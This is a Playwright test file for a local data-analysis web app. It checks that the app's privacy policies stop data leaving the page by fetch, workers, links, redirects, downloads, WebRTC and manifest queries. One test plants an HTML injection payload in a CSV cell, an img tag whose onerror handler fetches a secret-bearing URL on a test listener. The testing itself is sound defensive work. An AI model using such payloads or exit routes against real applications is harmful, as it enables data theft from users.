import { expect, test, type Page } from '@playwright/test';
import { makeFile } from './bench/makeFile.mjs';
import { AppPage } from './pages/AppPage.ts';
import { EDITIONS, Host, wholePageKept } from './support/hosts.ts';
import { listen, type Listener } from './support/listener.ts';
import { VIEWS } from './support/settings.ts';
import {
  STOPPED_BY_ALLOWLIST,
  STOPPED_BY_GUARD,
  STOPPED_BY_POLICY,
  searchByWebRtc,
  tryWay,
} from './support/waysOut.ts';

/** Long enough for anything that gets out to be heard. */
const SETTLE_MS = 1500;

let listener: Listener;
test.beforeEach(async () => {
  listener = await listen();
});
test.afterEach(() => {
  listener.close();
});

/** The app, under both policies. */
async function openApp(page: Page, address: string = EDITIONS['from a host']): Promise<void> {
  await new AppPage(page).open(address);
  await expect(page.getByTestId('privacy-badge')).not.toHaveAttribute('data-state', 'checking');
}

/** The app as it is from the second visit on: the service worker answers. */
async function openAppAgain(page: Page): Promise<void> {
  await openApp(page);
  await wholePageKept(page);
  await page.reload();
  await expect(page.getByTestId('privacy-badge')).toHaveAttribute('data-state', 'full');
}

async function openBare(page: Page): Promise<void> {
  await page.goto(`${listener.url}/bare.html`);
}

for (const [edition, address] of Object.entries(EDITIONS)) {
  test(`whatever the policy stops gets out of a page without it, and not out of the app, ${edition}`, async ({
    page,
  }) => {
    await openBare(page);
    for (const [name, way] of Object.entries(STOPPED_BY_POLICY)) {
      await tryWay(page, way, `${listener.url}/bare-${name}`);
    }
    await page.waitForTimeout(SETTLE_MS);

    await openApp(page, address);
    for (const [name, way] of Object.entries(STOPPED_BY_POLICY)) {
      await tryWay(page, way, `${listener.url}/app-${name}`);
    }
    await page.waitForTimeout(SETTLE_MS);

    const names = Object.keys(STOPPED_BY_POLICY);
    expect([...listener.heard].sort()).toEqual(names.map((name) => `bare-${name}`).sort());
  });

  test(`no link, redirect or download takes anything elsewhere, ${edition}`, async ({ page }) => {
    for (const [name, way] of Object.entries(STOPPED_BY_GUARD)) {
      await openBare(page);
      await tryWay(page, way, `${listener.url}/bare-${name}`);
      await page.waitForTimeout(SETTLE_MS);
      await openApp(page, address);
      await tryWay(page, way, `${listener.url}/app-${name}`);
      await page.waitForTimeout(SETTLE_MS);
      await expect(page.getByTestId('privacy-badge')).toBeVisible();
    }
    const names = Object.keys(STOPPED_BY_GUARD);
    expect([...listener.heard].sort()).toEqual(names.map((name) => `bare-${name}`).sort());
  });

  test(`the app’s own workers are under the policy too, ${edition}`, async ({ page }) => {
    await openApp(page, address);
    await new AppPage(page).analyseSample('classic');
    const workers = page.workers();
    let checked = 0;
    for (const worker of workers) {
      const tried = worker.evaluate(async (to) => {
        const outcome = (work: () => unknown): Promise<string> =>
          Promise.resolve()
            .then(work)
            .then(
              () => 'open',
              () => 'refused',
            );
        const code = `fetch("${to}-nested", { mode: 'no-cors' })`;
        const nested = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
        return [
          await outcome(() => fetch(to, { mode: 'no-cors' })),
          await outcome(() => new Worker(nested)),
        ];
      }, `${listener.url}/from-worker`);
      // Those of the analysis end with it: they answer no more.
      const late = new Promise<null>((resolve) => setTimeout(resolve, 5000, null));
      const outcomes = await Promise.race([tried.catch(() => null), late]);
      if (outcomes === null) continue;
      expect(outcomes).toEqual(['refused', 'refused']);
      checked++;
    }
    expect(checked).toBeGreaterThan(0);
    await page.waitForTimeout(SETTLE_MS);
    expect([...listener.heard]).toEqual([]);
  });

  test(`taking the policies out of the page does not loosen them, ${edition}`, async ({ page }) => {
    await openApp(page, address);
    await page.evaluate(() => {
      for (const meta of document.querySelectorAll('meta[http-equiv]')) meta.remove();
    });
    for (const [name, way] of Object.entries(STOPPED_BY_POLICY)) {
      await tryWay(page, way, `${listener.url}/app-${name}`);
    }
    await page.waitForTimeout(SETTLE_MS);
    expect([...listener.heard]).toEqual([]);
  });

  test(`a cell that would send something sends nothing, ${edition}`, async ({ page }) => {
    const cell = (secret: string): string =>
      `<img src="${listener.url}/${secret}" onerror="fetch('${listener.url}/${secret}')">`;
    await openBare(page);
    await page.evaluate((html) => {
      document.body.innerHTML = html;
    }, cell('bare'));
    await expect.poll(() => [...listener.heard]).toEqual(['bare']);

    await openApp(page, address);
    const app = new AppPage(page);
    const quoted = `"${cell('app').replaceAll('"', '""')}"`;
    const text = makeFile({ rowCount: 300, seed: 6 }).replaceAll('Salaried', quoted);
    expect(text).toContain(quoted);
    await app.analyseFile({ name: 'cells.csv', text });
    for (const view of VIEWS) await app.visit(view);
    await page.waitForTimeout(SETTLE_MS);
    expect([...listener.heard]).toEqual(['bare']);
  });
}

test('from the second visit on new windows and WebRTC are stopped too', async ({ page }) => {
  const names = Object.keys(STOPPED_BY_ALLOWLIST);
  await openBare(page);
  for (const name of names) {
    await tryWay(page, STOPPED_BY_ALLOWLIST[name]!, `${listener.url}/bare-${name}`);
  }
  await searchByWebRtc(page, listener.stun);
  await page.waitForTimeout(SETTLE_MS);
  expect([...listener.heard].sort()).toEqual(
    [...names.map((name) => `bare-${name}`), 'webrtc'].sort(),
  );

  const second = await listen();
  await openAppAgain(page);
  for (const name of names) {
    await tryWay(page, STOPPED_BY_ALLOWLIST[name]!, `${second.url}/app-${name}`);
  }
  await searchByWebRtc(page, second.stun);
  await page.waitForTimeout(SETTLE_MS);
  expect([...second.heard]).toEqual([]);
  second.close();
});

test('the host is asked for nothing but the page’s own files, whatever is behind them', async ({
  browser,
}) => {
  const host = await Host.start();
  const context = await browser.newContext({ baseURL: host.url });
  const page = await context.newPage();
  const tryQueries = async (): Promise<string[]> => {
    const addresses = ['x.js?SECRET', 'index.html?SECRET', 'SECRET.js', 'x.webmanifest?SECRET'];
    const before = host.asked.length;
    await page.evaluate(async (all) => {
      for (const each of all)
        await import(new URL(each, location.href).href).catch(() => undefined);
      document.querySelector('link[rel=manifest]')?.setAttribute('href', `./${all.at(-1) ?? ''}`);
    }, addresses);
    // Browsers fetch a manifest when they want to know what it says.
    const devtools = await context.newCDPSession(page);
    expect((await devtools.send('Page.getAppManifest')).url).toContain('SECRET');
    return host.asked.slice(before).filter((address) => address.includes('SECRET'));
  };
  await openApp(page);
  expect((await tryQueries()).length, 'on the first visit they get through').toBeGreaterThan(2);
  await openAppAgain(page);
  expect(await tryQueries()).toEqual([]);
  await context.close();
  host.remove();
});

test('the self-test tries every way, shows what it found, and claims no more', async ({ page }) => {
  await openAppAgain(page);
  await page.getByTestId('privacy-badge').click();
  await page.getByTestId('self-test').click();
  const result = page.getByTestId('self-test-result');
  await expect(result).toContainText('None got through', { timeout: 60_000 });
  const rows = page.getByRole('region', { name: 'What each way out came to' }).locator('tbody tr');
  expect(await rows.count()).toBeGreaterThan(20);
  await expect(page.getByTestId('requests-sentence')).toContainText('none for anything elsewhere');
});

test('the self-test of the one file finds no way out', async ({ page }) => {
  await openApp(page, EDITIONS['as one file']);
  await page.getByTestId('privacy-badge').click();
  await page.getByTestId('self-test').click();
  const result = page.getByTestId('self-test-result');
  await expect(result).toContainText('None got through', { timeout: 60_000 });
});

test('on the first visit the badge says so', async ({ page }) => {
  await openApp(page);
  const badge = page.getByTestId('privacy-badge');
  await expect(badge).toHaveAttribute('data-state', 'first-visit');
  await badge.click();
  await expect(page.getByTestId('privacy-lock')).toContainText('Reload once for the full lock');
});
